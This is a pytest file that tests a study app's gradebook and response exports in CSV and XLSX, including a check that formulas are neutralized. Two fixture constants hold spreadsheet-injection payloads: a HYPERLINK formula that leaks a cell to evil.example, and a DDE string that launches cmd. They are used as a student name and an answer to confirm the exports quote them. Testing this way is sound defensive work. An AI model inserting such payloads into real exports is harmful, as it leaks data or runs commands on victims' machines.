"""The gradebook's downloads and `flask export`: Canvas layout, responses, CSV and XLSX, read back cell by cell."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from studyapp.core import grading
from studyapp.core.exports import (
    CANVAS_FIXED_COLUMNS,
    CANVAS_POINTS_POSSIBLE,
    RESPONSES_COLUMNS,
    csv_stream,
    xlsx_stream,
)
from studyapp.domain import exports
from studyapp.domain.questions import question_of
from studyapp.extensions import db
from studyapp.models import Excusal, Role
from studyapp.models.base import utcnow
from tests.web.test_classes_support import assign, enrol, fixed_quiz, make_class, shipped_questions, take

pytestmark = pytest.mark.content

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def setup(make_user):
    instructor = make_user(Role.INSTRUCTOR)
    class_ = make_class(instructor, name="HIST 210: Détente")
    evil = make_user(Role.STUDENT, name=EVIL_NAME, email="evil@example.edu")
    zoe = make_user(Role.STUDENT, name="Zoë Ünal", email="zoe@example.edu")
    idle = make_user(Role.STUDENT, name="Ivan Idle", email="ivan@example.edu")
    enrol(class_, evil, section="Section A")
    enrol(class_, zoe, idle, section="Section B")
    singles = shipped_questions("single", 2)
    essay = shipped_questions("essay", 1, points=None)[0]
    first = assign(class_, fixed_quiz(singles, slug="two", title="Two questions"))
    second = assign(class_, fixed_quiz([singles[0], essay], slug="essay", title="-With an essay"))
    take(evil, first, {1: True, 2: True})
    take(zoe, first, {1: False, 2: True})
    take(zoe, first, {1: True, 2: True})  # a second attempt: the grade is the highest
    take(evil, second, {1: True, 2: {"text": EVIL_ANSWER}})
    db.session.add(Excusal(assignment_id=second.id, user_id=zoe.id))
    db.session.commit()
    return dict(
        instructor=instructor,
        class_=class_,
        evil=evil,
        zoe=zoe,
        idle=idle,
        first=first,
        second=second,
        singles=singles,
        essay=essay,
    )


def download(client, class_id: int, kind: str, fmt: str):
    response = client.get(f"/classes/{class_id}/export/{kind}.{fmt}")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.is_streamed
    return response


def read_csv(body: bytes) -> list[list]:
    """Parse as a spreadsheet would, with text quoted and numbers bare: bare numbers come back as floats."""
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM"
    text = body.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def test_gradebook_csv_in_canvas_layout(client, login, setup):
    s = setup
    login(s["instructor"])
    response = download(client, s["class_"].id, "gradebook", "csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    today = utcnow().date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="hist-210-detente-gradebook-{today}.csv"'
    rows = read_csv(response.get_data())
    first, second = s["first"], s["second"]
    essay_points = s["essay"].current_version.points
    assert rows[0] == [*CANVAS_FIXED_COLUMNS, f"Two questions ({first.id})", f"'-With an essay ({second.id})"]
    assert rows[1] == [CANVAS_POINTS_POSSIBLE, "", "", "", "", 2.0, 1.0 + essay_points]
    by_email = {row[3]: row for row in rows[2:]}
    assert len(rows) == 5
    # The formula in a name is neutralized; ids and scores stay numbers.
    assert by_email["evil@example.edu"] == [
        "'" + EVIL_NAME,
        float(s["evil"].id),
        "",
        "evil@example.edu",
        "Section A",
        2.0,
        "",
    ]  # the essay waits for grading: no grade yet
    assert by_email["zoe@example.edu"] == [
        "Zoë Ünal",
        float(s["zoe"].id),
        "",
        "zoe@example.edu",
        "Section B",
        2.0,
        "EX",
    ]
    assert by_email["ivan@example.edu"] == [
        "Ivan Idle",
        float(s["idle"].id),
        "",
        "ivan@example.edu",
        "Section B",
        "",
        "",
    ]
    # Rows come in name order.
    assert [row[0] for row in rows[2:]] == ["'" + EVIL_NAME, "Ivan Idle", "Zoë Ünal"]


def test_responses_csv_one_row_per_student_and_question(client, login, setup):
    s = setup
    login(s["instructor"])
    response = download(client, s["class_"].id, "responses", "csv")
    today = utcnow().date().isoformat()
    assert f'filename="hist-210-detente-responses-{today}.csv"' in response.headers["Content-Disposition"]
    rows = read_csv(response.get_data())
    assert rows[0] == list(RESPONSES_COLUMNS)
    body = rows[1:]
    # evil: 2 + 2 answers; zoe: 2 attempts x 2 answers.
    assert len(body) == 8
    assert {row[0] for row in body} == {"HIST 210: Détente"}
    zoe = [row for row in body if row[3] == "Zoë Ünal"]
    assert [(row[2], row[4]) for row in zoe] == [("Two questions", 1.0)] * 2 + [("Two questions", 2.0)] * 2
    first_question = s["singles"][0]
    parsed = question_of(first_question.current_version)
    right = grading.correct_response(parsed)["choice"]
    right_text = next(c.text for c in parsed.choices if c.id == right)
    wrong_text = next(c.text for c in parsed.choices if c.id != right)
    assert zoe[0][5] == first_question.key
    assert zoe[0][6] == "; ".join(first_question.current_version.themes)
    assert zoe[0][7] == wrong_text and zoe[0][8] == 0.0 and zoe[0][9] == 1.0
    assert zoe[2][7] == right_text and zoe[2][8] == 1.0
    assert zoe[0][10].endswith("Z") and zoe[0][10][:10] == today
    evil = [row for row in body if row[3] == "'" + EVIL_NAME]
    essay_row = next(row for row in evil if row[5] == s["essay"].key)
    assert essay_row[2] == "'-With an essay"
    assert essay_row[7] == "'" + EVIL_ANSWER  # neutralized typed answer
    assert essay_row[8] == ""  # not graded yet
    assert essay_row[9] == s["essay"].current_version.points
    assert all(row[1] == "Section A" for row in evil)


def test_the_xlsx_files_hold_the_same_cells_and_no_formula(client, login, setup):
    s = setup
    login(s["instructor"])
    response = download(client, s["class_"].id, "gradebook", "xlsx")
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].endswith(f'-gradebook-{utcnow().date().isoformat()}.xlsx"')
    sheet = load_workbook(io.BytesIO(response.get_data()), read_only=False).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:5] == list(CANVAS_FIXED_COLUMNS)
    assert rows[1][0] == CANVAS_POINTS_POSSIBLE and rows[1][5] == 2
    evil = next(row for row in rows if row[3] == "evil@example.edu")
    assert evil[0] == EVIL_NAME and evil[1] == s["evil"].id and evil[5] == 2  # kept text by a quote-prefix style
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    response = download(client, s["class_"].id, "responses", "xlsx")
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == list(RESPONSES_COLUMNS) and len(rows) == 9
    assert any(row[7] == EVIL_ANSWER for row in rows)
    assert all(isinstance(row[8], (int, float)) for row in rows[1:] if row[8] is not None)


def xml_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_the_responses_export_writes_what_the_general_writers_write(setup):
    """The export joins each row from runs of cells made once; the bytes are those of the row-by-row writers."""
    class_ = setup["class_"]
    written = b"".join(exports.export(class_, "responses", "csv").chunks)
    assert written == b"".join(csv_stream(*exports.responses_of(class_)))
    assert len(read_csv(written)) == 9
    written = b"".join(exports.export(class_, "responses", "xlsx").chunks)
    assert xml_parts(written) == xml_parts(b"".join(xlsx_stream("Responses", *exports.responses_of(class_))))


def test_unknown_exports_are_not_found(client, login, setup):
    login(setup["instructor"])
    assert client.get(f"/classes/{setup['class_'].id}/export/grades.csv").status_code == 404
    assert client.get(f"/classes/{setup['class_'].id}/export/gradebook.pdf").status_code == 404


def test_flask_export_writes_the_same_files(client, login, runner, setup, tmp_path):
    s = setup
    login(s["instructor"])
    for kind in ("gradebook", "responses"):
        target = tmp_path / f"{kind}.csv"
        result = runner.invoke(
            args=["export", kind, "--class", str(s["class_"].id), "--format", "csv", "-o", str(target)]
        )
        assert result.exit_code == 0, result.output
        assert f"Wrote {target}" in result.output
        assert target.read_bytes() == download(client, s["class_"].id, kind, "csv").get_data()
    target = tmp_path / "gradebook.xlsx"
    result = runner.invoke(
        args=["export", "gradebook", "--class", str(s["class_"].id), "--format", "xlsx", "-o", str(target)]
    )
    assert result.exit_code == 0
    assert load_workbook(target).active["A1"].value == "Student"
    missing = runner.invoke(args=["export", "gradebook", "--class", "999999", "-o", str(tmp_path / "x.csv")])
    assert missing.exit_code != 0 and "no class has the id 999999" in missing.output


def test_an_empty_class_exports_its_header(client, login, make_user):
    instructor = make_user(Role.INSTRUCTOR)
    class_ = make_class(instructor, name="Empty")
    login(instructor)
    rows = read_csv(download(client, class_.id, "gradebook", "csv").get_data())
    assert rows == [list(CANVAS_FIXED_COLUMNS), [CANVAS_POINTS_POSSIBLE, "", "", "", ""]]
    rows = read_csv(download(client, class_.id, "responses", "csv").get_data())
    assert rows == [list(RESPONSES_COLUMNS)]
